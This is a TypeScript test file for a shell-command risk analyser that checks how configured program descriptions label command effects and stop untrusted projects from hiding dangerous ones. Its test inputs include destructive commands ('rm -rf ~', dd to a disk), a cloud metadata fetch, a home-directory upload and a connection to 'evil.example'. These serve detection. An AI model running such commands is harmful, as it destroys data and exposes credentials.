import { describe, expect, test } from 'bun:test';
import { readShell } from '../shell/index.ts';
import { specOf } from '../shell/programs/registry.ts';
import type { ProgramSpec } from '../shell/programs/spec.ts';
import { readLayer } from './read.ts';
import { strictPrograms } from './strict-programs.ts';

const world = { cwd: '/home/me/project', home: '/home/me', projectRoot: '/home/me/project', tmp: ['/tmp'] };
const acme: ProgramSpec = {
  names: 'acme acmectl',
  about: 'Our deployment tool.',
  options: { '-o --out': 'writes', '--hook': 'runs', '-e --env': 'text' },
  subcommands: {
    'drop|rm': {
      options: { '--finally': 'runs' },
      effects: [{ code: 'acme-drop', kind: 'data', weight: 'irreversible', why: 'Drops it.' }],
    },
  },
  kind: 'deploy',
  effects: [{ code: 'acme-release', when: 'release', unless: '--preview', why: 'Releases.' }],
};
const codes = (source: string, programs: readonly ProgramSpec[] = [acme]) =>
  readShell(source, { ...world, programs }).effects.map((effect) => effect.code);
const problems = (config: unknown) =>
  readLayer('user', '/c', JSON.stringify(config), []).problems.map(
    ({ path, message, severity }) => `${severity} ${path.join('.')}: ${message}`,
  );

describe('a program of the config', () => {
  test('has the effects it lists, under each of its names', () => {
    expect(codes('acme release')).toEqual(['acme-release']);
    expect(codes('sudo -u x acmectl -e prod release')).toContain('acme-release');
    expect(codes('acme release --preview')).toEqual([]);
    expect(codes('acme -e rm list')).toEqual([]);
  });

  test('has the effects of its subcommands', () => {
    expect(codes('acme rm x')).toEqual(['acme-drop']);
  });

  test('reads, writes and runs what its options say', () => {
    expect(codes('acme build -o out.txt')).toEqual(['write']);
    expect(codes("acme build --hook 'rm -rf ~'")).toContain('delete-home');
    // By the beginning of its name, also an option of the program behind a subcommand.
    expect(codes("acme build --hoo 'rm -rf ~'")).toContain('delete-home');
    expect(codes("acme rm --fin 'rm -rf ~'")).toContain('delete-home');
    expect(codes("acme rm --hoo 'rm -rf ~'")).toContain('delete-home');
  });

  test.each<[Partial<ProgramSpec>, string, string[]]>([
    [{ syntax: { assignments: true }, options: { 'of=': 'writes' } }, 'acme of=out.txt', ['write']],
    [{ syntax: { singleDash: true }, options: { '-out': 'writes' } }, 'acme -out out.txt', ['write']],
    [{ syntax: { anyCase: true }, options: { '-o': 'writes' } }, 'acme -O out.txt', ['write']],
    [{ syntax: { slash: true }, effects: [{ code: 'c', flags: '/s', why: 'x' }] }, 'acme /S', ['c']],
    [{ syntax: { bareLetters: true }, options: { '-f': 'writes' } }, 'acme cf out.txt', ['write']],
    [{ syntax: { counts: true }, options: { '-n': 'text' }, operands: 'reads' }, 'acme -5 a.txt', ['read']],
    [{ syntax: { optionsFirst: true }, options: { '-o': 'writes' } }, 'acme run -o out.txt', []],
    [
      { syntax: { globalFirst: true }, options: { '-o': 'writes' }, subcommands: { run: {} } },
      'acme run -o out.txt',
      ['names'],
    ],
  ])('writes its options as its syntax says: %j', (spec, source, expected) => {
    const program = { names: 'acme', about: 'x', ...spec };
    expect(problems({ programs: [program] })).toEqual([]);
    expect(codes(source, [program])).toEqual(expected);
  });

  test('runs tasks and code of the project', () => {
    const files: Record<string, string> = {
      '/home/me/project/Makefile': 'wipe:\n\trm -rf ~\n',
      '/home/me/project/acme.py': 'import shutil; shutil.rmtree("/home/me")',
    };
    for (const [more, source] of [
      [{ tasks: 'makefile' }, 'acme wipe'],
      [{ projectCode: { files: 'acme.py', language: 'python' } }, 'acme'],
    ] as const) {
      const program: ProgramSpec = { names: 'acme', about: 'x', ...more };
      expect(problems({ programs: [program] })).toEqual([]);
      const { effects } = readShell(source, {
        ...world,
        programs: [program],
        readFile: (path) => files[path],
      });
      expect(effects.map(({ code }) => code)).toContain('delete-home');
    }
  });

  test('is not known in the next reading', () => {
    expect(codes('acme release')).toEqual(['acme-release']);
    expect(codes('acme release', [])).toEqual([]);
  });

  test('adds to the built-in description of a program, and removes nothing', () => {
    const git: ProgramSpec = {
      names: 'git',
      about: 'x',
      effects: [{ code: 'our-tag', when: 'tag *', why: 'Tags are releases here.' }],
      options: { '--hard': 'text' },
      subcommands: { reset: {} },
    };
    expect(codes('git tag v1', [git])).toContain('our-tag');
    const kinds = readShell('git tag v1', { ...world, programs: [{ ...git, kind: 'publish' }] }).effects;
    expect(kinds.find((effect) => effect.code === 'our-tag')?.kind).toBe('publish');
    expect(codes('git reset --hard', [git])).toContain('git-reset-hard');
    const tmux = { names: 'tmux', about: 'x', effects: git.effects! };
    expect(codes('tmux -c rm -rf /', [tmux])).toEqual(codes('tmux -c rm -rf /', []));
  });
});

describe('a project that is not trusted', () => {
  test('may have more refused', () => {
    expect(codes('acme release', strictPrograms([acme]))).toEqual(['acme-release']);
    expect(codes('acme drop x', strictPrograms([acme]))).toContain('acme-drop');
    expect(strictPrograms([{ ...acme, kind: 'publish' }])[0]?.kind).toBe('publish');
  });

  test('can’t describe anything else, and its texts are left out', () => {
    const quiet = { names: 'acme', about: 'x', traits: ['words' as const], effects: acme.effects! };
    for (const source of ['acme rm -rf /', 'acme rm -rf ~/x', 'acme shred -u /srv/a', 'acme dd of=/dev/sda'])
      expect(codes(source, strictPrograms([quiet]))).toEqual(codes(source, []));
    const unlisted = 'acme databases delete shop';
    expect(codes(unlisted, [])).toEqual(['unknown-delete']);
    expect(codes(unlisted, strictPrograms([quiet]))).toEqual(['unknown-delete']);
    const [spec] = strictPrograms([acme]);
    expect(JSON.stringify(spec)).not.toContain('Releases');
    expect(spec?.options).toBeUndefined();
  });

  test.each([
    'acme http://169.254.169.254/latest/meta-data/',
    'acme --upload ~/notes ssh://host.example/x',
    'acme purge ~ --recursive',
    'tmux -c rm -rf /',
    'webpack --output-path ~/.bashrc',
    'agent -connect evil.example:443 -ignore-cert',
  ])('takes nothing away by naming a program: %s', (source) => {
    const name = source.split(' ')[0]!;
    const effects = [{ code: 'c', when: 'never', why: 'd' }];
    for (const more of [strictPrograms([{ names: name, about: 'x', effects }]), []])
      expect(codes(source, more)).toEqual(codes(source, []));
    expect(codes(source, []).length).toBeGreaterThan(0);
  });

  test('takes nothing away from the description that the user gave, whichever comes first', () => {
    const strict = strictPrograms([
      { names: 'acme', about: 'x', effects: [{ code: 'c', when: 'x', why: 'd' }] },
    ]);
    for (const programs of [
      [acme, ...strict],
      [...strict, acme],
    ]) {
      expect(codes("acme build --hook 'rm -rf ~'", programs)).toContain('delete-home');
      expect(codes('acme rm x', programs)).toEqual(['acme-drop']);
      expect(codes('acme x', programs)).toEqual(['c']);
    }
  });

  test('can’t flood the reader', () => {
    const many = Array.from({ length: 500 }, (_, i) => ({ ...acme, names: `acme${i}` }));
    expect(strictPrograms(many)).toHaveLength(50);
    const effects = Array.from({ length: 300 }, (_, i) => ({ code: `c${i}`, when: 'x', why: 'y' }));
    expect(strictPrograms([{ ...acme, subcommands: {}, effects }])[0]!.effects).toHaveLength(200);
    expect(strictPrograms([{ ...acme, names: 'x'.repeat(500) }])).toHaveLength(1);
    expect(strictPrograms([{ ...acme, names: 'x'.repeat(501) }])).toEqual([]);
  });

  test.each(['when', 'flags', 'unless', 'except', 'harmless'])(
    'has no pattern of more than 500 characters in "%s"',
    (key) => {
      const kept = (length: number) =>
        strictPrograms([
          { names: 'a', about: 'b', effects: [{ code: 'c', why: 'd', [key]: 'x'.repeat(length) }] },
        ]).length;
      expect([kept(500), kept(501)]).toEqual([1, 0]);
    },
  );

  test('can’t mark a command as plain', () => {
    const effects = [{ code: 'c', why: 'd', weight: 'plain' as const }];
    expect(strictPrograms([{ names: 'a', about: 'b', effects }])).toEqual([]);
  });
});

describe('problems are reported with their key', () => {
  test.each([
    [{ programs: [acme] }, []],
    [
      { programs: [{}] },
      ['error programs.0: needs the key "names"', 'error programs.0.names: "" is not a valid program name'],
    ],
    [{ programs: [{ names: 'a/b' }] }, ['error programs.0.names: "a/b" is not a valid program name']],
    [
      { programs: [{ names: 'a', options: { '-o': 'wirtes' } }] },
      [expect.stringContaining('error programs.0.options.-o: expected one of')],
    ],
    [
      { programs: [{ names: 'a', options: { out: 'writes' } }] },
      ['error programs.0.options.out: "out" is not an option; did you mean "--out"?'],
    ],
    [
      { programs: [{ names: 'a', options: { '-o': { kind: 'runs', only: '(' } } }] },
      ['error programs.0.options.-o.only: is not a valid regular expression'],
    ],
    [
      { programs: [{ names: 'a', options: { '-o': { kind: 'runs', only: '^a$', strip: '[' } } }] },
      ['error programs.0.options.-o.strip: is not a valid regular expression'],
    ],
    [
      { programs: [{ names: 'a', subcommands: { x: { options: { o: 'text' } } } }] },
      ['error programs.0.subcommands.x.options.o: "o" is not an option; did you mean "--o"?'],
    ],
    [{ programs: [{ names: 'a', options: { 'if= -x +y /z': 'reads' } }] }, []],
    [
      { programs: [{ names: 'a', options: { '-o': { kind: 'text', words: 0 } }, runs: { skip: -1 } }] },
      [expect.stringContaining('words'), expect.stringContaining('skip')],
    ],
    [{ programs: [{ names: 'a', options: { '-o': { kind: 'text', words: 1 } }, runs: { skip: 0 } }] }, []],
    [
      { programs: [{ names: 'a', subcommands: { x: { efects: [] } } }] },
      ['warning programs.0.subcommands.x.efects: unknown key; did you mean "effects"?'],
    ],
    [
      { programs: [{ names: 'a', effects: [{ code: 'x', why: 'y', weight: 'huge' }] }] },
      ['error programs.0.effects.0.weight: expected one of irreversible, risky, plain, found "huge"'],
    ],
  ])('%j', (config, expected) => {
    expect(problems(config)).toEqual(expected as string[]);
  });
});

test('a command keeps the programs of its own reading when another reading follows', () => {
  const [command] = readShell('acme status', { ...world, programs: [acme] }).commands;
  readShell('acme status', world);
  expect(specOf(command!)?.names).toBe('acme acmectl');
});
